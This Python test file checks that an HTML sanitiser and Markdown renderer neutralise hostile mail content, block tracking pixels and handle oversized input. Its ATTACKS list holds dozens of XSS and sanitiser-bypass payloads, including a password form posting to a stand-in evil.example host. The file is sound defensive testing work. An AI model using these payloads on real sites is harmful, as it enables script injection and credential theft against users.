"""Markdown and other people's HTML: readable, and unable to act."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qiao.kernel.text import html_to_text, render_markdown, sanitise_html, with_remote_images

# Every kind of thing that HTML can do, in spellings that have fooled sanitisers.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://e.example/a.png' onload='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/accounts/logout/'>x</a>",
    "<img src='/accounts/logout/'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x><embed src=x></object>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style='background:url(https://evil.example/t)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<table background='https://evil.example/t'><tr><td background=x>x</table>",
    "<video src=https://evil.example poster=x></video>",
    "<img srcset='https://evil.example/t 2x'>",
    "<picture><source srcset=https://evil.example/t></picture>",
    "<p id=desk name=desk class=toast data-action=x hx-get=/x hx-on:click=alert(1)>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<img alt='\" onerror=\"alert(1)' src=cid:x>",
]
_TAG = re.compile(r'<(/?[a-z][a-z0-9]*)((?: [a-z-]+="[^"]*")*)>')
_SAFE_ATTRIBUTES = {
    "href", "src", "data-src", "alt", "title", "class", "rel", "target", "dir", "lang", "width", "height", "align",
    "valign", "colspan", "rowspan", "scope", "span", "start", "type", "reversed", "value", "open", "hidden",
    "referrerpolicy", "loading",
}  # fmt: skip
_ACTIVE_TAGS = set("script style iframe object embed form input button select textarea svg math link base meta".split())


def assert_harmless(html):
    rest = _TAG.sub("", html)
    assert "<" not in rest, f"not a well-formed tag: {rest}"
    for tag, attributes in _TAG.findall(html):
        assert tag.strip("/") not in _ACTIVE_TAGS
        for name, value in re.findall(r' ([a-z-]+)="([^"]*)"', attributes):
            assert name in _SAFE_ATTRIBUTES, name
            if name in ("href", "src"):
                assert re.match(r"https?:|mailto:|tel:|/files/|data:image/(png|jpeg|gif|webp);", value), value
            if name == "class":
                assert value in ("remote-image", "missing-image") or value.startswith("language-")
    assert "evil.example" not in "".join(re.findall(r' src="([^"]*)"', html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_cannot_act(attack):
    assert_harmless(sanitise_html(attack).html)
    assert_harmless(sanitise_html(f"<div><table>{attack}<p>").html)
    assert_harmless(with_remote_images(sanitise_html(attack).html).replace("http://e.example", "https:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_cannot_act(attack):
    for text in (attack, f"[x]({attack})", f"![x]({attack})", f"`{attack}`", f"| {attack} |\n|-|\n"):
        html = render_markdown(text)
        rest = _TAG.sub("", html)
        assert "<" not in rest
        assert not re.search(r"<[^>]* on\w+=", html)
        assert not any(tag.strip("/") in _ACTIVE_TAGS for tag, _ in _TAG.findall(html))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", '"', "'", "<", "&lt;", "<!--", "-->", "<td>"]), max_size=8
    )
)
def test_mixtures_cannot_act_either(parts):
    assert_harmless(sanitise_html("".join(parts), cid_urls={"x": "/files/x"}).html)


def test_pictures_from_elsewhere_wait_until_they_are_allowed():
    mail = '<p>Hi <img src="https://shop.example/logo.png?a=1&b=2" alt="Logo" width=80></p><img src=//cdn.example/x>'
    found = sanitise_html(mail)
    assert found.remote_image_count == 2
    assert " src=" not in found.html
    assert 'data-src="https://shop.example/logo.png?a=1&amp;b=2"' in found.html
    assert 'alt="Logo"' in found.html
    shown = sanitise_html(mail, allow_remote_images=True)
    assert shown.remote_image_count == 2
    assert ' src="https://shop.example/logo.png?a=1&amp;b=2" referrerpolicy="no-referrer"' in shown.html
    assert ' src="https://cdn.example/x"' in shown.html
    assert with_remote_images(found.html) == shown.html


@pytest.mark.parametrize(
    "pixel",
    [
        "<img src=https://t.example/o.gif width=1 height=1>",
        "<img src=https://t.example/o.gif style='width:1px; height:1px'>",
        "<img src=https://t.example/o.gif style='display:none'>",
        "<img src=https://t.example/o.gif height=0>",
    ],
)
def test_a_tracking_pixel_never_loads(pixel):
    found = sanitise_html(f"<p>x{pixel}</p>", allow_remote_images=True)
    assert (found.html, found.remote_image_count) == ("<p>x</p>", 0)


def test_inline_pictures_are_shown_from_our_own_store():
    found = sanitise_html(
        '<img src="cid:Image001.png@01D" alt="shot"><img src="CID:a%20b"><img src="cid:gone" alt="lost">',
        cid_urls={"<image001.png@01d>": "/files/aa/1.png", "a b": '/files/bb/"2".png'},
    )
    assert '<img alt="shot" src="/files/aa/1.png">' in found.html
    assert 'src="/files/bb/&quot;2&quot;.png"' in found.html
    assert '<img class="missing-image" alt="lost">' in found.html
    assert found.remote_image_count == 0


def test_links_open_apart_and_tell_nobody():
    html = sanitise_html('<a href="https://x.example" target="_self" rel="opener">x</a>').html
    assert 'target="_blank"' in html
    assert 'rel="noopener nofollow noreferrer"' in html


def test_what_a_mail_looks_like_mostly_stays():
    mail = '<table width="600"><tr><td align="right" colspan=2><h2>标题</h2><b>粗</b><br>x</td></tr></table>'
    assert sanitise_html(mail).html == (
        '<table width="600"><tbody><tr><td align="right" colspan="2"><h2>标题</h2><b>粗</b><br>x</td></tr>'
        "</tbody></table>"
    )
    assert sanitise_html('<div style="DISPLAY : none !important">preheader</div>').html == (
        '<div hidden="">preheader</div>'
    )


@pytest.mark.parametrize(
    "heavy", ["x" * 1_000_001, "<a href=https://x>x</a>" * 5001, "<div>" * 200_000, "<b><i>" * 600]
)
def test_heavy_html_is_said_to_be_and_costs_no_time(heavy):
    began = time.process_time()
    found = sanitise_html(heavy)
    assert (found.too_heavy, found.html) == (True, "")
    html_to_text(heavy)
    assert time.process_time() - began < 5


def test_html_near_the_limits_is_shown_in_time():
    began = time.process_time()
    page = "<p>" + "<table><tr><td>" * 300 + "x" + "<p>line<br>" * 50_000 + "<a href=https://x>y</a>" * 4000
    assert not sanitise_html(page).too_heavy
    assert "x" in html_to_text(page)
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello&nbsp;world</p><p>two<br>lines<br></p>", "Hello world\n\ntwo\nlines"),
        ("<div>a</div><div><br></div><div>b</div>", "a\n\nb"),
        ("<p class=MsoNormal>一</p><p class=MsoNormal>二</p><p class=MsoNormal>&nbsp;</p><p class=MsoNormal>三</p>",
         "一\n二\n\n三"),
        ("<ul><li>a<li>b<ol start=3><li>c<li>d</ol></ul>after", "- a\n- b\n  3. c\n  4. d\n\nafter"),
        ("<table><tr><th>a</th><th>b</th></tr><tr><td>c<td>d</table>", "a\tb\nc\td"),
        ("Ada wrote:<blockquote><p>q1</p><p>q2</p><blockquote>deep</blockquote></blockquote>end",
         "Ada wrote:\n\n> q1\n>\n> q2\n>\n> > deep\n\nend"),
        ("<pre>def f():\n    return  1\n</pre>", "def f():\n    return  1"),
        ("<title>t</title><style>p{}</style><script>x</script><div style='display:none'>no</div>yes", "yes"),
        ("<h1>T</h1>a<hr>b", "T\n\na\n---\nb"),
        ("zero\u200bwidth  and\n\nspaces", "zerowidth and spaces"),
        ("1 &lt; 2 &amp; 3", "1 < 2 & 3"),
        ("", ""),
    ],
)  # fmt: skip
def test_html_as_text_reads_as_it_looks(html, text):
    assert html_to_text(html) == text


def test_addresses_of_links_can_be_kept():
    html = (
        '<a href="https://x.example/">here</a>, <a href="https://x.example">x.example</a>, '
        '<a href="mailto:a@b.c">a@b.c</a>'
    )
    assert html_to_text(html, with_links=True) == "here <https://x.example/>, x.example <https://x.example>, a@b.c"
    assert html_to_text(html) == "here, x.example, a@b.c"


@given(st.text())
def test_any_text_comes_out_of_html_as_it_went_in(text):
    from html import escape

    shown = html_to_text(f"<pre>{escape(text)}</pre>")
    assert "".join(shown.split()) == "".join(html_to_text(escape(text)).split())


def link(href, text):
    target = "" if href.startswith("mailto:") else ' target="_blank"'
    return f'<a href="{href}"{target} rel="noopener nofollow noreferrer">{text}</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("请访问www.example.com。谢谢", "请访问" + link("http://www.example.com", "www.example.com") + "。谢谢"),
        ("见https://a.example/x里的说明", "见" + link("https://a.example/x", "https://a.example/x") + "里的说明"),
        ("（https://a.example/x(1)）", "（" + link("https://a.example/x(1)", "https://a.example/x(1)") + "）"),
        ("(see https://a.example/x.)", "(see " + link("https://a.example/x", "https://a.example/x") + ".)"),
        ("联系ada@a.example吧", "联系" + link("mailto:ada@a.example", "ada@a.example") + "吧"),
        ("sync.log and v5.4.1", "sync.log and v5.4.1"),
        ("`https://a.example`", "<code>https://a.example</code>"),
        ("**注意：**请先备份", "<strong>注意：</strong>请先备份"),
        ("请**重启（必须）**服务", "请<strong>重启（必须）</strong>服务"),
        ("a * b * c", "a * b * c"),
        ("~~旧~~ *new*", "<s>旧</s> <em>new</em>"),
        ("one\ntwo", "one<br>\ntwo"),
        ("![图](/files/ab/1.png)", '<img src="/files/ab/1.png" alt="图">'),
        ("![logo](https://x.example/l.png)", link("https://x.example/l.png", "logo")),
        ("[票](/desk/tickets/1/)", '<a href="/desk/tickets/1/" rel="noopener nofollow noreferrer">票</a>'),
    ],
)
def test_markdown_is_read_as_it_is_meant(text, html):
    assert render_markdown(text) == f"<p>{html}</p>\n"


def test_markdown_has_tables_and_code():
    assert '<td align="right">1</td>' in render_markdown("|a|\n|-:|\n|1|")
    assert render_markdown("```python\nx < 1\n```") == '<pre><code class="language-python">x &lt; 1\n</code></pre>\n'


@pytest.mark.parametrize(
    "hard", ["[" * 50_000, ">" * 20_000, "a *a **b " * 20_000, "www." * 40_000, "a" * 150_000 + "@", "x" * 300_000]
)
def test_hard_markdown_costs_no_time(hard):
    began = time.process_time()
    render_markdown(hard)
    assert time.process_time() - began < 5
